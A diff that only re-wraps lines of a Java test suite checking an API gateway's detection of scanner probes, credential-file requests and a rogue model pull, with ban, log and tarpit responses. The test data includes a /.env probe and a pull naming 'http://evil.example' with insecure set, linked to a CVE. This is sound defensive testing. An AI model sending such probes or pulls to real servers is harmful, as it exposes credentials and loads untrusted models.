@@ -17,13 +17,14 @@ import org.junit.jupiter.api.Test;
 
 /**
  * Probe detection end to end, in each action: ban, log and tarpit. Scanners get the answers they
- * would have got anyway; the verdict acts on their next request. Auth-failure bans are switched
- * off here, so that every ban seen is the detector's. Each client has its own 127.0.0.0/8 address.
+ * would have got anyway; the verdict acts on their next request. Auth-failure bans are switched off
+ * here, so that every ban seen is the detector's. Each client has its own 127.0.0.0/8 address.
  */
 class ProbeDetectionTest {
 
   static Map<String, String> settings(String action, String... more) {
-    Map<String, String> m = new HashMap<>(Map.of("probes.action", action, "bans.never", "", "bans.auth_failures", "0"));
+    Map<String, String> m =
+        new HashMap<>(Map.of("probes.action", action, "bans.never", "", "bans.auth_failures", "0"));
     for (int i = 0; i < more.length; i += 2) {
       m.put(more[i], more[i + 1]);
     }
@@ -31,19 +32,33 @@ class ProbeDetectionTest {
   }
 
   static String get(String path, String key) {
-    return "GET " + path + " HTTP/1.1\r\nHost: gatehouse.test\r\n" + (key == null ? "" : "Authorization: Bearer " + key + "\r\n")
+    return "GET "
+        + path
+        + " HTTP/1.1\r\nHost: gatehouse.test\r\n"
+        + (key == null ? "" : "Authorization: Bearer " + key + "\r\n")
         + "Connection: close\r\n\r\n";
   }
 
   static String post(String path, String key, String body) {
-    return "POST " + path + " HTTP/1.1\r\nHost: gatehouse.test\r\nAuthorization: Bearer " + key + "\r\n"
-        + "Content-Type: application/json\r\nContent-Length: " + body.length() + "\r\nConnection: close\r\n\r\n" + body;
+    return "POST "
+        + path
+        + " HTTP/1.1\r\nHost: gatehouse.test\r\nAuthorization: Bearer "
+        + key
+        + "\r\n"
+        + "Content-Type: application/json\r\nContent-Length: "
+        + body.length()
+        + "\r\nConnection: close\r\n\r\n"
+        + body;
   }
 
   /** What the nuclei and nmap templates fetch, in one client's order. */
-  static final List<String> SWEEP = List.of("/", "/api/tags", "/v1/models", "/version", "/props", "/api/v1/model", "/metrics");
+  static final List<String> SWEEP =
+      List.of("/", "/api/tags", "/v1/models", "/version", "/props", "/api/v1/model", "/metrics");
 
-  /** Sweeps without a key from {@code ip} until it is refused as banned; returns how many got their 401. */
+  /**
+   * Sweeps without a key from {@code ip} until it is refused as banned; returns how many got their
+   * 401.
+   */
   static int sweep(GatewayFixture gw, String ip) throws Exception {
     int answered = 0;
     for (String path : SWEEP) {
@@ -58,12 +73,13 @@ class ProbeDetectionTest {
   }
 
   /**
-   * The status of a request, retried for up to a second until it is {@code expected}: a verdict
-   * is reached when the judged response ends, a moment after its client may already have sent
-   * the next request on another connection. Probe with /healthz, which never reaches the
-   * upstream, so a retry cannot add to what the upstream saw.
+   * The status of a request, retried for up to a second until it is {@code expected}: a verdict is
+   * reached when the judged response ends, a moment after its client may already have sent the next
+   * request on another connection. Probe with /healthz, which never reaches the upstream, so a
+   * retry cannot add to what the upstream saw.
    */
-  private static int statusSoon(GatewayFixture gw, String request, String ip, int expected) throws Exception {
+  private static int statusSoon(GatewayFixture gw, String request, String ip, int expected)
+      throws Exception {
     int status = gw.raw(request, ip).status();
     for (int i = 0; i < 50 && status != expected; i++) {
       Thread.sleep(20);
@@ -80,17 +96,28 @@ class ProbeDetectionTest {
       // Judged on its fourth request. The verdict is taken as that response ends, so the fifth,
       // sent the moment the fourth answer arrives, can still slip in before the ban holds.
       assertThat(sweep(gw, "127.0.0.20")).isBetween(4, 5);
-      assertThat(statusSoon(gw, get("/healthz", null), "127.0.0.20", -1)).isEqualTo(-1); // banned: closed before anything else
-      assertThat(gw.raw(get("/api/tags", key), "127.0.0.20").status()).as("a valid key does not help").isEqualTo(-1);
+      assertThat(statusSoon(gw, get("/healthz", null), "127.0.0.20", -1))
+          .isEqualTo(-1); // banned: closed before anything else
+      assertThat(gw.raw(get("/api/tags", key), "127.0.0.20").status())
+          .as("a valid key does not help")
+          .isEqualTo(-1);
       assertThat(gw.upstream.requests()).isEmpty();
-      assertThat(abuse.await("probe verdict ip=127.0.0.20 ", "score=10", "action=ban", "signals=sweep:2,unauth_inventory:8")).isNotNull();
+      assertThat(
+              abuse.await(
+                  "probe verdict ip=127.0.0.20 ",
+                  "score=10",
+                  "action=ban",
+                  "signals=sweep:2,unauth_inventory:8"))
+          .isNotNull();
       var ban = gw.store.findBan("127.0.0.20");
       for (int i = 0; i < 50 && ban.isEmpty(); i++) {
         Thread.sleep(20); // written in the background
         ban = gw.store.findBan("127.0.0.20");
       }
-      assertThat(ban.orElseThrow().reasons()).containsExactly("probe score 10: sweep:2,unauth_inventory:8");
-      assertThat(ban.orElseThrow().samplePaths()).containsExactly("/", "/api/tags", "/v1/models", "/version");
+      assertThat(ban.orElseThrow().reasons())
+          .containsExactly("probe score 10: sweep:2,unauth_inventory:8");
+      assertThat(ban.orElseThrow().samplePaths())
+          .containsExactly("/", "/api/tags", "/v1/models", "/version");
       assertThat(gw.raw(get("/api/tags", key), "127.0.0.21").status()).isEqualTo(200);
     }
   }
@@ -103,10 +130,14 @@ class ProbeDetectionTest {
       RawResponse r = gw.raw(get("/.env", key), "127.0.0.22");
       assertThat(r.status()).isEqualTo(404);
       assertThat(r.body()).contains("policy.endpoint_unknown");
-      assertThat(statusSoon(gw, get("/healthz", null), "127.0.0.22", -1)).isEqualTo(-1); // banned: closed before anything else
-      assertThat(gw.raw(get("/api/tags", key), "127.0.0.22").status()).as("a valid key does not help").isEqualTo(-1);
+      assertThat(statusSoon(gw, get("/healthz", null), "127.0.0.22", -1))
+          .isEqualTo(-1); // banned: closed before anything else
+      assertThat(gw.raw(get("/api/tags", key), "127.0.0.22").status())
+          .as("a valid key does not help")
+          .isEqualTo(-1);
       assertThat(gw.upstream.requests()).isEmpty();
-      assertThat(abuse.await("probe verdict ip=127.0.0.22 ", "hard=credential_path", "paths=/.env")).isNotNull();
+      assertThat(abuse.await("probe verdict ip=127.0.0.22 ", "hard=credential_path", "paths=/.env"))
+          .isNotNull();
     }
   }
 
@@ -115,13 +146,23 @@ class ProbeDetectionTest {
     try (GatewayFixture gw = GatewayFixture.start(settings("ban"))) {
       String manage = gw.newKey(List.of(), List.of("models.manage", "models.read"));
       // why: CVE-2024-37032's check: a URL as the model name is never ordinary use
-      RawResponse r = gw.raw(post("/api/pull", manage, "{\"name\":\"http://evil.example/rogue/x\",\"insecure\":true}"), "127.0.0.23");
+      RawResponse r =
+          gw.raw(
+              post(
+                  "/api/pull",
+                  manage,
+                  "{\"name\":\"http://evil.example/rogue/x\",\"insecure\":true}"),
+              "127.0.0.23");
       assertThat(r.status()).isEqualTo(403);
       assertThat(r.body()).contains("policy.registry_denied");
-      assertThat(statusSoon(gw, get("/healthz", null), "127.0.0.23", -1)).isEqualTo(-1); // banned: closed before anything else
-      assertThat(gw.raw(get("/api/tags", manage), "127.0.0.23").status()).as("a valid key does not help").isEqualTo(-1);
+      assertThat(statusSoon(gw, get("/healthz", null), "127.0.0.23", -1))
+          .isEqualTo(-1); // banned: closed before anything else
+      assertThat(gw.raw(get("/api/tags", manage), "127.0.0.23").status())
+          .as("a valid key does not help")
+          .isEqualTo(-1);
       // why: naming a registry that is not allowed is refused, but may be an honest mistake
-      RawResponse hf = gw.raw(post("/api/pull", manage, "{\"name\":\"hf.co/org/model\"}"), "127.0.0.24");
+      RawResponse hf =
+          gw.raw(post("/api/pull", manage, "{\"name\":\"hf.co/org/model\"}"), "127.0.0.24");
       assertThat(hf.status()).isEqualTo(403);
       assertThat(gw.raw(get("/api/tags", manage), "127.0.0.24").status()).isEqualTo(200);
       assertThat(gw.upstream.requests()).extracting(rec -> rec.uri()).containsExactly("/api/tags");
@@ -137,7 +178,8 @@ class ProbeDetectionTest {
       assertThat(gw.raw(get("/.env", null), "127.0.0.25").status()).isEqualTo(401);
       assertThat(gw.raw(get("/api/tags", key), "127.0.0.25").status()).isEqualTo(200);
       assertThat(abuse.await("probe verdict ip=127.0.0.25 ", "action=log", "hard=-")).isNotNull();
-      assertThat(abuse.await("probe verdict ip=127.0.0.25 ", "action=log", "hard=credential_path")).isNotNull();
+      assertThat(abuse.await("probe verdict ip=127.0.0.25 ", "action=log", "hard=credential_path"))
+          .isNotNull();
       assertThat(abuse.lines()).noneMatch(l -> l.startsWith("ban "));
       assertThat(gw.store.listBans()).isEmpty();
     }
@@ -145,8 +187,16 @@ class ProbeDetectionTest {
 
   @Test
   void inTarpitModeRefusalsWaitWithoutHoldingThreadsAndEndWithTheWindow() throws Exception {
-    try (GatewayFixture gw = GatewayFixture.start(settings("tarpit",
-            "probes.tarpit_delay", "600ms", "probes.window", "3s", "bans.refusal", "403"));
+    try (GatewayFixture gw =
+            GatewayFixture.start(
+                settings(
+                    "tarpit",
+                    "probes.tarpit_delay",
+                    "600ms",
+                    "probes.window",
+                    "3s",
+                    "bans.refusal",
+                    "403"));
         AccessLogCapture abuse = new AccessLogCapture("gatehouse.abuse")) {
       String key = gw.newKey();
       assertThat(sweep(gw, "127.0.0.26")).isBetween(4, 5); // as above: the fifth may slip in
@@ -157,11 +207,13 @@ class ProbeDetectionTest {
       try {
         List<Future<long[]>> held = new ArrayList<>();
         for (int i = 0; i < 40; i++) {
-          held.add(pool.submit(() -> {
-            long t0 = System.nanoTime();
-            RawResponse r = gw.raw(get("/api/tags", key), "127.0.0.26");
-            return new long[] {r.status(), (System.nanoTime() - t0) / 1_000_000};
-          }));
+          held.add(
+              pool.submit(
+                  () -> {
+                    long t0 = System.nanoTime();
+                    RawResponse r = gw.raw(get("/api/tags", key), "127.0.0.26");
+                    return new long[] {r.status(), (System.nanoTime() - t0) / 1_000_000};
+                  }));
         }
         Thread.sleep(150);
         long t0 = System.nanoTime();
